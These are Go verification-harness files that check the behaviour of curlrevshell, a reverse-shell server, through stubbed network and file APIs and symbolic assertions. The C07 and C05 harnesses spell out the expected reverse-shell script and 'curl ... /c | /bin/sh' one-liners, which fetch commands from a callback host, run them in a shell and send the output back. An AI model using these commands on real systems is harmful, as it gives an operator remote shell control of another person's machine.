		c14Copiers = append(c14Copiers, d)
		go execCopy(c.Stdout, c14Out, d)
	}
	if !c14ErrPiped && c.Stderr != nil {
		d := make(chan struct{})
		c14Copiers = append(c14Copiers, d)
		go execCopy(c.Stderr, c14Err, d)
	}
	if !c14InPiped {
		if c.Stdin != nil {
			d := make(chan struct{})
			c14Copiers = append(c14Copiers, d)
			go execCopyIn(c.Stdin, c14In, d)
		} else {
			c14In.Close() // the null device: immediate end-of-input
		}
	}
	go func() {
		verifActor()
		if c14Cat {
			<-c14InEOF // a filter: reads its input to the end, then writes and exits
		}
		for _, d := range c14OutData {
			c14Out.ch <- d
		}
		for _, d := range c14ErrData {
			c14Err.ch <- d
		}
		close(c14Out.ch)
		close(c14Err.ch)
		c14Exited = true
		close(c14ChildDone)
	}()
	return nil
}
func stubCmdWait(c *exec.Cmd) error {
	<-c14ChildDone
	for _, d := range c14Copiers {
		<-d // Wait waits for exec's own copying goroutines
	}
	c14WaitClosed = true // exec closes the pipes after seeing the command exit
	return c14ExitErr
}
func stubCmdRun(c *exec.Cmd) error {
	if err := stubCmdStart(c); err != nil {
		return err
	}
	return stubCmdWait(c)
}
func stubCmdString(c *exec.Cmd) string { return "child" }

type exitError struct{}

func (exitError) Error() string { return "exit status 3" }

// HarnessC14Relay: the child writes no/ne chunks of one symbolic byte to stdout/stderr and exits.
func HarnessC14Relay() {
	no, ne := verifParam("no"), verifParam("ne")
	c14WaitClosed = false
	c14ChildDone = make(chan struct{})
	c14Out = &childPipe{ch: make(chan []byte, 4), waitClose: &c14WaitClosed}
	c14Err = &childPipe{ch: make(chan []byte, 4), waitClose: &c14WaitClosed}
	c14OutData, c14ErrData = nil, nil
	var wantOut, wantErr []byte
	for i := 0; i < no; i++ {
		b := nondetBytes(1, 0)
		b[0] = b[0]&0x7f | 0x80 // stdout bytes have the top bit set, stderr bytes do not: streams can be told apart
		c14OutData = append(c14OutData, b)
		wantOut = append(wantOut, b[0])
	}
	for i := 0; i < ne; i++ {
		b := nondetBytes(1, 0)
		b[0] &= 0x7f
		c14ErrData = append(c14ErrData, b)
		wantErr = append(wantErr, b[0])
	}
	failing := nondetBool()
	c14ExitErr = nil
	if failing {
		c14ExitErr = exitError{}
	}
	c14OutPiped, c14ErrPiped, c14InPiped = false, false, false
	c14In, c14InGot, c14InEOF, c14Exited = &childStdin{}, nil, make(chan struct{}), false
	ni := verifParam("ni")
	c14Cat = verifParam("cat") == 1
	in := &inReader{}
	var wantIn []byte
	for i := 0; i < ni; i++ {
		b := nondetBytes(1, 0)
		in.chunks = append(in.chunks, b)
		wantIn = append(wantIn, b[0])
	}
	if ni > 0 {
		in.withEOF = nondetBool()
	}
	sh, nerr := NewCmdShell(&exec.Cmd{})
	verifAssert(nerr == nil && sh != nil, "C14.new-cmd-shell")
	if sh == nil {
		return
	}
	var gotOut, gotErr []byte
	var readErr error
	consumed := make(chan struct{})
	go func() {
		verifActor()
		buf := make([]byte, 2)
		for {
			n, err := sh.Output().Read(buf)
			for _, x := range buf[:n] {
				if x&0x80 != 0 {
					gotOut = append(gotOut, x)
				} else {
					gotErr = append(gotErr, x)
				}
			}
			if err != nil {
				readErr = err
				break
			}
		}
		close(consumed)
	}()
	if ni > 0 || verifParam("cat") == 1 {
		sh.SetInput(in)
	}
	err := sh.Go(context.Background())
	<-consumed
	verifQuiesce()
	if c14Cat {
		// the command reads its input to the end: every byte must have reached it
		verifAssert(string(c14InGot) == string(wantIn), "C14.input-reaches-stdin-unchanged")
	} else {
		verifAssert(len(c14InGot) <= len(wantIn) && string(c14InGot) == string(wantIn[:len(c14InGot)]), "C14.input-never-altered")
	}
	if verifCanary() {
		wantOut = append(wantOut, 0x80)
	}
	verifAssert(string(gotOut) == string(wantOut), "C14.all-stdout-bytes-relayed-in-order-before-eof")
	verifAssert(string(gotErr) == string(wantErr), "C14.all-stderr-bytes-relayed-in-order-before-eof")
	verifAssert(readErr == io.EOF, "C14.output-stream-ends-with-eof-after-drain")
	verifAssert((err != nil) == failing, "C14.unsuccessful-exit-reported")
	verifReach("C14.relay.end")
}
