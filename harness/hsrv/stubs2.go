package hsrv

// Stubs for the serving side: ServeMux as a recorder, http.Server.Serve/Shutdown, listener,
// file serving.

import (
	"context"
	"io"
	"io/fs"
	"log"
	"net"
	"net/http"
	"os"
	"time"
)

//verif:stub net/http.NewServeMux stubNewServeMux
//verif:stub (*net/http.ServeMux).HandleFunc stubHandleFunc
//verif:stub (*net/http.Server).Serve stubServe
//verif:stub (*net/http.Server).Shutdown stubShutdown
//verif:stub log.New stubLogNew
//verif:stub (*os.File).Stat stubFileStat
//verif:stub (*os.File).Close stubFileClose
//verif:stub net/http.ServeContent stubServeContent
//verif:stub net/http.FileServer stubFileServer
//verif:stub net/http.ServeFile stubServeFile
//verif:stub os.Stat stubOsStat
//verif:stub os.Lstat stubOsStat

type muxEntry struct {
	pattern string
	h       func(http.ResponseWriter, *http.Request)
}

var (
	muxTable     []muxEntry
	serveErr     error
	shutdownErr  error
	shutdownN    int
	served       int
	fileClosed   int
	serveContent []string
	fileServerOn []string
	fsServed     int
)

func stubNewServeMux() *http.ServeMux { muxTable = nil; return &http.ServeMux{} }
func stubHandleFunc(m *http.ServeMux, pattern string, h func(http.ResponseWriter, *http.Request)) {
	muxTable = append(muxTable, muxEntry{pattern, h})
}
func stubServe(s *http.Server, l net.Listener) error { served++; verifYield(); return serveErr }
func stubShutdown(s *http.Server, ctx context.Context) error {
	shutdownN++
	return shutdownErr
}
func stubLogNew(w io.Writer, prefix string, flag int) *log.Logger { return &log.Logger{} }

type stubFI struct{ dir bool }

func (f stubFI) Name() string { return "x" }
func (f stubFI) Size() int64  { return 1 }
func (f stubFI) Mode() fs.FileMode {
	if f.dir {
		return fs.ModeDir | 0o755
	}
	return 0o644
}
func (f stubFI) ModTime() time.Time { return time.Time{} }
func (f stubFI) IsDir() bool        { return f.dir }
func (f stubFI) Sys() any           { return nil }

func stubFileStat(f *os.File) (os.FileInfo, error) {
	if statFails {
		return nil, &stubErr{"stat failed"}
	}
	return stubFI{dir: openMode == 2}, nil
}
func stubFileClose(f *os.File) error { fileClosed++; return nil }
func stubServeContent(w http.ResponseWriter, r *http.Request, name string, mod time.Time, content io.ReadSeeker) {
	serveContent = append(serveContent, name)
}

type recFileServer struct{ root string }

func (h recFileServer) ServeHTTP(w http.ResponseWriter, r *http.Request) { fsServed++ }
func stubFileServer(root http.FileSystem) http.Handler {
	d, _ := root.(http.Dir)
	fileServerOn = append(fileServerOn, string(d))
	return recFileServer{string(d)}
}

type stubListener struct {
	closes     int
	ochAtClose int
	och        chan interface{}
	lenAt      func() int
}

func (l *stubListener) Accept() (net.Conn, error) { return nil, net.ErrClosed }
func (l *stubListener) Close() error {
	l.closes++
	if l.lenAt != nil {
		l.ochAtClose = l.lenAt()
	}
	return nil
}
func (l *stubListener) Addr() net.Addr { return stubAddr{} }

type stubAddr struct{}

func (stubAddr) Network() string { return "tcp" }
func (stubAddr) String() string  { return "127.0.0.1:4444" }

// stubOsStat: file metadata as the environment may present it.  For the callback template file:
// it exists unless removed, and - as after mv, cp -p, a restore, or an edit within one timestamp
// tick - its size and modification time need not change when its content does.  For the static
// files path: a regular file, a directory, or an error, as the harness chose.
func stubOsStat(name string) (os.FileInfo, error) {
	if name == "tmpl.file" {
		if tmplStatFails {
			return nil, &stubErr{"no such file"}
		}
		return stubFI{}, nil
	}
	statCalls = append(statCalls, name)
	if openMode == 0 || statFails {
		return nil, &stubErr{"stat failed"}
	}
	return stubFI{dir: openMode == 2}, nil
}

var (
	tmplStatFails bool
	statCalls     []string
	serveFileOK   []string // names actually served by http.ServeFile
	serveFileNo   int      // requests http.ServeFile answered without the file (400 / redirect)
)

func hasDotDot(p string) bool {
	start := 0
	for i := 0; i <= len(p); i++ {
		if i == len(p) || p[i] == '/' || p[i] == '\\' {
			if p[start:i] == ".." {
				return true
			}
			start = i + 1
		}
	}
	return false
}

// stubServeFile states net/http.ServeFile's documented contract: it replies with the named file,
// EXCEPT that it rejects requests whose URL path contains a ".." element and redirects requests
// whose URL path ends in "/index.html".
func stubServeFile(w http.ResponseWriter, r *http.Request, name string) {
	p := r.URL.Path
	if hasDotDot(p) || (len(p) >= 11 && p[len(p)-11:] == "/index.html") {
		serveFileNo++
		return
	}
	serveFileOK = append(serveFileOK, name)
}
