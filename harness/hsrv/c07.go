package hsrv

// Harnesses for C07 (the script served at /c is correctly addressed) and the script part of C05.

import (
	"crypto/tls"

	"golang.org/x/net/idna"
	"net"
	"net/http"
	"net/url"
	"strconv"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/lib/sstls"
)

//verif:stub (*net/http.Request).ParseForm stubParseForm
//verif:stub golang.org/x/net/idna.ToASCII stubToASCII
//verif:stub (*golang.org/x/net/idna.Profile).ToASCII stubProfileToASCII
//verif:stub net.JoinHostPort stubJoinHostPort
//verif:stub os.ReadFile stubReadFile
//verif:stub math/rand.Uint64 stubRandUint64

var (
	parseFormFails bool
	idnaFails      bool
	tmplData       []byte
	tmplReadFails  bool
	tmplReads      int
	lastRand       uint64
	listenAddr     string
)

func stubParseForm(r *http.Request) error {
	if parseFormFails {
		return &stubErr{"bad form"}
	}
	return nil
}

// stubToASCII: IDNA mapping as an opaque function: "" maps to "", anything else is tagged so
// that the oracle can tell the IDNA form from the raw Host header.
func stubToASCII(s string) (string, error) {
	if idnaFails {
		return "", &stubErr{"idna: disallowed rune"}
	}
	if s == "" {
		return "", nil
	}
	return "xn--" + s, nil
}

// stubProfileToASCII: the other IDNA profiles.  idna.Punycode (which the package-level ToASCII
// uses) performs no validation; the Lookup / Registration / Display profiles enforce STD3 ASCII
// rules and reject any label with a character outside letters, digits and hyphen - such as the
// colons and brackets of an IPv6 literal or an underscore.
func stubProfileToASCII(p *idna.Profile, s string) (string, error) {
	if p == idna.Punycode {
		return stubToASCII(s)
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		ldh := c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '.' || c >= 0x80
		if !ldh {
			return "", &stubErr{"idna: disallowed rune"}
		}
	}
	return stubToASCII(s)
}
func stubJoinHostPort(host, port string) string {
	for i := 0; i < len(host); i++ {
		if host[i] == ':' {
			return "[" + host + "]:" + port
		}
	}
	return host + ":" + port
}
func stubReadFile(name string) ([]byte, error) {
	tmplReads++
	if tmplReadFails {
		return nil, &stubErr{"no such file"}
	}
	return tmplData, nil
}
func stubRandUint64() uint64 { lastRand = nondetUint64(); return lastRand }

type addrListener struct{ stubListener }

func (l *addrListener) Addr() net.Addr { return strAddr(listenAddr) }

type strAddr string

func (a strAddr) Network() string { return "tcp" }
func (a strAddr) String() string  { return string(a) }

func mkC07Server(och chan opshell.CLine, fp string) *Server {
	return &Server{sl: verifNewLogger(), och: och, l: sstls.Listener{Listener: &addrListener{}, Fingerprint: fp}, defTmpl: parsedDefaultTemplate}
}

// HarnessC07C2: the callback address precedence, for every presence combination and value.
func HarnessC07C2() {
	n := verifParam("n")
	form := nondetString(nondetLen(n))
	hdr := nondetString(nondetLen(n))
	host := nondetString(nondetLen(n))
	sni := nondetString(nondetLen(n))
	parseFormFails, idnaFails = nondetBool(), nondetBool()
	portCase := nondetChoice(3)
	switch portCase {
	case 0:
		listenAddr = "0.0.0.0:443"
	case 1:
		listenAddr = "0.0.0.0:4444"
	default:
		listenAddr = "garbage" // no port: SplitHostPort fails
	}
	s := mkC07Server(make(chan opshell.CLine, 8), "FP")
	r := &http.Request{Form: url.Values{}, Header: http.Header{}, Host: host, TLS: &tls.ConnectionState{ServerName: sni}, URL: &url.URL{Path: "/c"}}
	if form != "" {
		r.Form["c2"] = []string{form}
	}
	if hdr != "" {
		r.Header["C2"] = []string{hdr}
	}
	got, err := s.c2URL(r)
	var want string
	wantErr := false
	switch {
	case parseFormFails:
		wantErr = true
	case form != "":
		want = form
	case hdr != "":
		want = hdr
	case idnaFails:
		wantErr = true
	case host != "":
		want = "xn--" + host
	case sni != "":
		switch portCase {
		case 0:
			want = sni
		case 1:
			want = stubJoinHostPort(sni, "4444")
		default:
			wantErr = true
		}
	default:
		wantErr = true
	}
	if verifCanary() && hdr != "" && form != "" {
		want = hdr
	}
	verifAssert((err != nil) == wantErr, "C07.c2.error-iff-no-usable-source")
	if !wantErr {
		verifAssert(got == want, "C07.c2.precedence-form-header-host-sni")
	} else {
		verifAssert(got == "", "C07.c2.no-address-on-error")
	}
	verifReach("C07.c2.end")
}

func isSafeIDByte(b byte) bool { return b >= '0' && b <= '9' || b >= 'a' && b <= 'z' }

// HarnessC07Script: the whole handler with the default template or a template file.
func HarnessC07Script() {
	och := make(chan opshell.CLine, 8)
	fp := nondetString(3)
	c2 := nondetString(2)
	verifAssume(c2 != "")
	s := mkC07Server(och, fp)
	useFile := nondetBool()
	if useFile {
		s.tmplf = "tmpl.file"
		tmplData = nondetBytes(2, 0) // arbitrary template text: parsing/executing may fail
		tmplReadFails = nondetBool()
		tmplStatFails = tmplReadFails
	}
	tmplReads = 0
	r := &http.Request{RemoteAddr: "c:1", Form: url.Values{"c2": []string{c2}}, Header: http.Header{}, URL: &url.URL{Path: "/c"}, TLS: &tls.ConnectionState{}}
	w := &nullRW{h: http.Header{}}
	s.scriptHandler(w, r)
	if useFile {
		verifAssert(tmplReads == 1, "C07.template-file-read-for-this-request")
	}
	failed := len(w.status) > 0
	if failed {
		verifAssert(len(w.status) == 1 && (w.status[0] == 500 || w.status[0] == 400), "C07.failure-is-an-error-status")
		verifAssert(len(w.body) == 0, "C07.no-script-on-failure")
		cl := takeLine(och)
		verifAssert(cl.Color == ErrorColor, "C07.failure-reported-to-operator")
		verifReach("C07.script.failed")
		return
	}
	if useFile {
		verifReach("C07.script.file-ok")
		return // arbitrary user template: nothing more to say about its text
	}
	id := strconv.FormatUint(lastRand, 36)
	verifAssert(len(id) >= 1 && len(id) <= 13, "C07.id-length")
	for i := 0; i < len(id); i++ {
		verifAssert(isSafeIDByte(id[i]), "C07.id-url-and-shell-safe")
	}
	curl := "curl -Nsk --pinnedpubkey \"sha256//" + fp + "\" https://" + c2
	want := "#!/bin/sh\n\n" + curl + "/i/" + id + " </dev/null 2>&0 |\n/bin/sh 2>&1 |\n" + curl + "/o/" + id + " -T- >/dev/null 2>&1\n"
	if verifCanary() {
		want = "#!/bin/sh\n\n" + curl + "/i/" + id + " </dev/null 2>&0 |\n/bin/sh 2>&1 |\n" + curl + "/o/x" + id + " -T- >/dev/null 2>&1\n"
	}
	verifAssert(string(w.body) == want, "C07.both-curl-lines-same-pin-address-and-id")
	cl := takeLine(och)
	verifAssert(cl.Line == "[c] Sent script: ID:"+id+" URL:"+c2, "C07.sent-script-notice")
	verifReach("C07.script.ok")
}

// HarnessC07Reread: two requests with the template file changed in between: the file is read
// for every request and nothing is cached in the server.
func HarnessC07Reread() {
	och := make(chan opshell.CLine, 8)
	s := mkC07Server(och, "FP")
	s.tmplf = "tmpl.file"
	r := &http.Request{RemoteAddr: "c:1", Form: url.Values{"c2": []string{"h"}}, Header: http.Header{}, URL: &url.URL{Path: "/c"}, TLS: &tls.ConnectionState{}}
	tmplReads = 0
	tmplReadFails = false
	tmplStatFails = false
	tmplData = []byte("A{{.ID}}!")
	w1 := &nullRW{h: http.Header{}}
	s.scriptHandler(w1, r)
	id1 := strconv.FormatUint(lastRand, 36)
	tmplData = []byte("B{{.URL}}")
	w2 := &nullRW{h: http.Header{}}
	s.scriptHandler(w2, r)
	tmplReadFails = true
	tmplStatFails = true
	w3 := &nullRW{h: http.Header{}}
	s.scriptHandler(w3, r)
	verifAssert(tmplReads == 3, "C07.template-reread-for-every-request")
	verifAssert(string(w1.body) == "A"+id1+"!", "C07.first-template-used")
	verifAssert(string(w2.body) == "Bh", "C07.edited-template-used")
	verifAssert(len(w3.body) == 0 && len(w3.status) == 1 && w3.status[0] == 500, "C07.removed-template-is-an-error")
	verifAssert(s.tmplf == "tmpl.file" && s.defTmpl == parsedDefaultTemplate, "C07.server-keeps-no-template-state")
	verifReach("C07.reread.end")
}

// HarnessC07AfterFailure: a request whose (arbitrary) template fails, possibly after producing
// partial output, is followed by a request with a good template: the second script must be
// exactly its own rendering - nothing of the failed request may leak into it.
func HarnessC07AfterFailure() {
	och := make(chan opshell.CLine, 8)
	s := mkC07Server(och, "FP")
	s.tmplf = "tmpl.file"
	r := &http.Request{RemoteAddr: "c:1", Form: url.Values{"c2": []string{"h"}}, Header: http.Header{}, URL: &url.URL{Path: "/c"}, TLS: &tls.ConnectionState{}}
	tmplReadFails, tmplStatFails = false, false
	tmplData = nondetBytes(2, 0) // arbitrary template text
	w1 := &nullRW{h: http.Header{}}
	s.scriptHandler(w1, r)
	firstFailed := len(w1.status) > 0
	tmplData = []byte("A{{.ID}}!")
	w2 := &nullRW{h: http.Header{}}
	s.scriptHandler(w2, r)
	id2 := strconv.FormatUint(lastRand, 36)
	want := "A" + id2 + "!"
	if verifCanary() {
		want = "x" + want
	}
	verifAssert(len(w2.status) == 0 && string(w2.body) == want, "C07.script-is-only-its-own-rendering")
	if firstFailed {
		verifReach("C07.afterfailure.first-failed")
	}
	verifReach("C07.afterfailure.end")
}
