package hsrv

// Shared environment stubs for the hsrv harnesses (each one states a documented contract).

import (
	"net/http"
	"os"
)

//verif:stub net.SplitHostPort stubSplitHostPort
//verif:stub os.Open stubOsOpenFail
//verif:stub net/http.Error stubHTTPError

type stubErr struct{ s string }

func (e *stubErr) Error() string { return e.s }

// stubSplitHostPort: faithful for addresses without brackets: the last colon separates host and port.
func stubSplitHostPort(hostport string) (string, string, error) {
	for i := len(hostport) - 1; i >= 0; i-- {
		if hostport[i] == ':' {
			return hostport[:i], hostport[i+1:], nil
		}
	}
	return "", "", &stubErr{"missing port in address"}
}

var (
	openMode  int // 0: fails, 1: regular file, 2: directory
	openCalls []string
	statFails bool
)

func stubOsOpenFail(name string) (*os.File, error) {
	openCalls = append(openCalls, name)
	if openMode == 0 {
		return nil, &stubErr{"open failed"}
	}
	return &os.File{}, nil
}

func stubHTTPError(w http.ResponseWriter, e string, code int) { httpErrors = append(httpErrors, code) }

var httpErrors []int

type nullRW struct {
	h      http.Header
	status []int
	body   []byte
}

func (n *nullRW) Header() http.Header { return n.h }
func (n *nullRW) Write(b []byte) (int, error) {
	n.body = append(n.body, b...)
	return len(b), nil
}
func (n *nullRW) WriteHeader(c int) { n.status = append(n.status, c) }
