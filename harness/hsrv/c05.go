package hsrv

// Harness for C05 (hsrv part): every fingerprint the server shows or embeds is the listener's
// fingerprint (a symbolic string here; that it is the pin of the served key is the sstls part),
// and printed one-liners name the port actually bound unless the user supplied one.

import (
	"context"
	"net"
	"net/netip"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/lib/sstls"
)

//verif:stub github.com/magisterquis/curlrevshell/lib/sstls.Listen stubSstlsListen
//verif:stub net/netip.ParseAddrPort stubParseAddrPort
//verif:stub (net/netip.AddrPort).Port stubAPPort
//verif:stub (net/netip.AddrPort).Addr stubAPAddr
//verif:stub (net/netip.AddrPort).String stubAPString
//verif:stub (net/netip.AddrPort).Compare stubAPCompare
//verif:stub (net/netip.Addr).IsUnspecified stubAddrUnspec

var (
	theFP      string
	boundAddr  string
	listenArg  string
	sstlsFails bool
)

func stubSstlsListen(network, address, subject string, lifespan time.Duration, certFile string) (sstls.Listener, error) {
	listenArg = address
	if sstlsFails {
		return sstls.Listener{}, &stubErr{"listen failed"}
	}
	listenAddr = boundAddr
	return sstls.Listener{Listener: &addrListener{}, Fingerprint: theFP}, nil
}
func stubParseAddrPort(s string) (netip.AddrPort, error) {
	if s == boundAddr {
		return netip.AddrPort{}, nil
	}
	return netip.AddrPort{}, &stubErr{"not an ip:port"}
}
func stubAPPort(p netip.AddrPort) uint16     { return 4444 }
func stubAPAddr(p netip.AddrPort) netip.Addr { return netip.Addr{} }
func stubAPString(p netip.AddrPort) string   { return boundAddr }
func stubAPCompare(p, q netip.AddrPort) int  { return 0 }
func stubAddrUnspec(a netip.Addr) bool       { return false }

func hasPrefix(s, p string) bool { return len(s) >= len(p) && s[:len(p)] == p }
func hasSuffix(s, p string) bool { return len(s) >= len(p) && s[len(s)-len(p):] == p }

func splitNL(s string) []string {
	var out []string
	start := 0
	for i := 0; i < len(s); i++ {
		if s[i] == '\n' {
			out = append(out, s[start:i])
			start = i + 1
		}
	}
	return append(out, s[start:])
}

// HarnessC05Help: New builds the callback help; Do prints the start-up one-liners.
func HarnessC05Help() {
	theFP = nondetString(verifParam("n"))
	for i := 0; i < len(theFP); i++ {
		verifAssume(theFP[i] != '\n') // base64 text never contains a newline; the harness splits notices into lines
	}
	boundAddr = "192.0.2.7:4444"
	sstlsFails = nondetBool()
	och := make(chan opshell.CLine, 64)
	ich := make(chan string, 1)
	iob, err := iobroker.New(ich, och)
	if err != nil {
		return
	}
	var cb []string
	ncb := nondetLen(2)
	if ncb >= 1 {
		cb = append(cb, "example.com") // no port: gets the bound port
	}
	if ncb >= 2 {
		cb = append(cb, "cb.example:8443") // own port: kept
	}
	withFiles := nondetBool()
	fdir := ""
	if withFiles {
		fdir = "/srv"
	}
	s, err := New(verifNewLogger(), "192.0.2.7", fdir, "", ich, och, iob, "cache", cb, false, false)
	if sstlsFails {
		verifAssert(err != nil && s == nil, "C05.new.listen-failure-reported")
		return
	}
	verifAssert(listenArg == "192.0.2.7:0", "C05.new.portless-address-gets-an-os-chosen-port")
	verifAssert(err == nil && s != nil, "C05.new.ok")
	if s == nil {
		return
	}
	pre := "curl -sk --pinnedpubkey sha256//" + theFP + " https://"
	lines := splitNL(s.cbHelp)
	n := 0
	for _, l := range lines {
		if l == "" {
			continue
		}
		n++
		ok := hasPrefix(l, pre) && hasSuffix(l, "/c | /bin/sh")
		if verifCanary() {
			ok = hasPrefix(l, "curl -sk --pinnedpubkey sha256//X")
		}
		verifAssert(ok, "C05.every-shell-one-liner-carries-the-listener-fingerprint")
		addr := ""
		if len(l) >= len(pre)+len("/c | /bin/sh") {
			addr = l[len(pre) : len(l)-len("/c | /bin/sh")]
		}
		okAddr := addr == boundAddr || addr == "example.com:4444" || addr == "cb.example:8443"
		verifAssert(okAddr, "C05.one-liners-name-the-bound-port-unless-given")
	}
	verifAssert(n == ncb+1, "C05.one-liner-per-address")

	// Do: start-up messages
	serveErr = errOther
	ctx, cancel := context.WithCancel(context.Background())
	_ = s.Do(ctx)
	cancel()
	verifQuiesce()
	fileLines, shellLines := 0, 0
	for {
		var cl opshell.CLine
		select {
		case cl = <-och:
		default:
			goto done
		}
		for _, l := range splitNL(cl.Line) {
			if hasPrefix(l, "curl ") {
				verifAssert(hasPrefix(l, pre), "C05.every-printed-one-liner-carries-the-listener-fingerprint")
				if hasSuffix(l, "/c | /bin/sh") {
					shellLines++
				} else {
					fileLines++
				}
			}
		}
	}
done:
	verifAssert(shellLines == ncb+1, "C05.do.shell-one-liners-printed")
	if withFiles {
		verifAssert(fileLines == ncb+1, "C05.do.file-one-liners-printed")
	} else {
		verifAssert(fileLines == 0, "C05.do.no-file-one-liners-without-dir")
	}
	verifReach("C05.help.end")
}

var _ = net.ErrClosed
