package hsrv

// For harnesses whose subject is not the spelling of the request target in a notice (C09, C12,
// C05): (*url.URL).String as "path, then ?query" - the real escaping routine forks per byte on
// a symbolic path and is exercised for real by C10's HarnessC10Path instead.

import "net/url"

//verif:stub (*net/url.URL).String stubURLString

func stubURLString(u *url.URL) string {
	if u.RawQuery == "" {
		return u.Path
	}
	return u.Path + "?" + u.RawQuery
}
