package hsrv

// Harnesses for C10: client-supplied text appears verbatim in operator notices and never
// reaches the format position of a printf-style function.
//
// The engine's fmt model raises the obligation "no symbolic byte of a format operand can be
// '%'" (label fmt.format-is-data) at every Sprintf/Errorf/Fprintf it executes, so every
// reporting path run below is checked at each of its printf-like call sites; the harness
// additionally asserts the end-to-end notice text.

import (
	"net/http"
	"net/url"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

func noSpecial(s string) {
	for i := 0; i < len(s); i++ {
		verifAssume(s[i] != ':' && s[i] != '[' && s[i] != ']')
	}
}

func newC10Server(och chan opshell.CLine) *Server {
	return &Server{och: och, sl: verifNewLogger(), fdir: "/nonexistent-verif-dir"}
}

func takeLine(och chan opshell.CLine) opshell.CLine {
	select {
	case cl := <-och:
		return cl
	default:
		verifAssert(false, "notice-was-sent")
		return opshell.CLine{}
	}
}

// HarnessC10Loggers: each reporting function, given a constant format and client-controlled
// string operands (arbitrary bytes, '%' included), produces exactly the spliced text.
func HarnessC10Loggers() {
	n := verifParam("n")
	which := verifParam("which")
	och := make(chan opshell.CLine, 4)
	s := newC10Server(och)
	a := nondetString(n)
	b := nondetString(n)
	ra := nondetString(verifParam("m"))
	noSpecial(ra)
	r := &http.Request{RemoteAddr: ra, URL: &url.URL{Path: "/f"}}
	var want string
	switch which {
	case 0:
		s.Printf(ScriptColor, "x %s y %s", a, b)
		want = "x " + a + " y " + b
	case 1:
		s.Logf(ScriptColor, "x %s y %s", a, b)
		want = "x " + a + " y " + b
	case 2:
		s.ErrorLogf("x %s y %s", a, b)
		want = "x " + a + " y " + b
	case 3:
		s.RLogf(FileColor, r, "x %s y %s", a, b)
		want = "[" + ra + "] x " + a + " y " + b
	case 4:
		s.RErrorLogf(r, "x %s y %s", a, b)
		want = "[" + ra + "] x " + a + " y " + b
	}
	cl := takeLine(och)
	if verifCanary() {
		want += "!"
	}
	verifAssert(cl.Line == want, "C10.logger.verbatim")
	verifAssert(!cl.Plain, "C10.logger.not-plain")
	verifReach("C10.loggers.end")
}

// HarnessC10File: the file handler's "File requested" notice carries the request target
// (here: path plus raw query, arbitrary bytes) and the client address verbatim.
func HarnessC10File() {
	och := make(chan opshell.CLine, 8)
	s := newC10Server(och)
	q := nondetString(verifParam("n"))
	ra := nondetString(verifParam("m"))
	noSpecial(ra)
	port := nondetBool()
	addr := ra
	if port {
		addr = ra + ":4444"
	}
	r := &http.Request{RemoteAddr: addr, URL: &url.URL{Path: "/f", RawQuery: q}}
	s.fileHandler(&nullRW{h: http.Header{}}, r)
	cl := takeLine(och)
	want := "[" + ra + "] File requested: " + r.URL.String()
	if verifCanary() {
		want += "!"
	}
	verifAssert(cl.Line == want, "C10.file.verbatim")
	// second notice: could not open (the stub makes os.Open fail)
	cl2 := takeLine(och)
	pre := "[" + ra + "] Could not open /nonexistent-verif-dir: "
	verifAssert(len(cl2.Line) >= len(pre) && cl2.Line[:len(pre)] == pre, "C10.file.open-error-notice")
	verifReach("C10.file.end")
}

// HarnessC10Path: the request path as the client sent it - escapes included - is what the file
// notice shows.  The raw path is "/" followed by m characters from an alphabet that contains
// the percent sign, hex digits of both cases, a letter and the slash; it is parsed by the real
// net/url (as net/http does for a request line), so Path / RawPath are what a real request has.
func HarnessC10Path() {
	m := verifParam("m")
	const alpha = "a%2Ff/41e."
	raw := []byte{'/'}
	for i := 0; i < m; i++ {
		raw = append(raw, alpha[nondetChoice(len(alpha))])
	}
	u, err := url.ParseRequestURI(string(raw))
	if err != nil {
		verifReach("C10.path.unparsable") // net/http answers 400 itself, no handler runs
		return
	}
	och := make(chan opshell.CLine, 8)
	s := newC10Server(och)
	r := &http.Request{RemoteAddr: "c:1", URL: u, RequestURI: string(raw)}
	s.fileHandler(&nullRW{h: http.Header{}}, r)
	cl := takeLine(och)
	want := "[c] File requested: " + string(raw)
	if verifCanary() {
		want += "!"
	}
	verifAssert(cl.Line == want, "C10.path.request-path-shown-as-sent")
	verifReach("C10.path.end")
}
