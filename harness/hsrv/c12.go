package hsrv

// Harnesses for C12 (-one-shell closes the listener at the first full shell) and C09 (static
// files: routing table and delegation wiring).

import (
	"context"
	"errors"
	"net"
	"net/http"
	"net/url"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/lib/sstls"
)

func countLines(och chan opshell.CLine, want string) (n, total int) {
	for {
		select {
		case cl := <-och:
			total++
			if cl.Line == want {
				n++
			}
		default:
			return
		}
	}
}

// HarnessC12Events: an arbitrary sequence of up to n broker events, then the channel is
// closed or the context cancelled.
func HarnessC12Events() {
	n := verifParam("n")
	och := make(chan opshell.CLine, 64)
	l := &stubListener{}
	l.lenAt = func() int { return len(och) }
	s := &Server{sl: verifNewLogger(), och: och, l: sstls.Listener{Listener: l}, oneShell: nondetBool(), cbHelp: "HELP"}
	evCh := make(chan iobroker.Event, n+1)
	connected, disconnected := 0, 0
	firstConnAt := -1
	for i := 0; i < n; i++ {
		switch nondetChoice(3) {
		case 0:
			evCh <- iobroker.Event{Type: iobroker.EventTypeConnected}
			connected++
			if firstConnAt < 0 {
				firstConnAt = i
			}
		case 1:
			evCh <- iobroker.Event{Type: iobroker.EventTypeDisconnected}
			disconnected++
		default:
			evCh <- iobroker.Event{Type: "something-else"}
		}
	}
	ctx, cancel := context.WithCancel(context.Background())
	closedCh := nondetBool()
	if closedCh {
		close(evCh)
	} else {
		// the context is cancelled at some point: the watcher may stop early
		cancel()
	}
	s.watchIOBEvents(ctx, evCh)
	cancel()
	left := len(evCh)
	consumedAll := left == 0
	if closedCh {
		// nothing but the end of the event stream (or shutdown) ends the watch: half-attached attempts
		// that come and go before the first full shell must not make it give up
		verifAssert(consumedAll, "C12.watcher-keeps-watching-until-the-event-stream-ends")
	}
	closing, _ := countLines(och, ClosingListenerMessage)
	_ = closing
	if !s.oneShell {
		verifAssert(l.closes == 0, "C12.listener-stays-open-without-one-shell")
	} else {
		verifAssert(l.closes <= connected, "C12.close-only-on-connected-events")
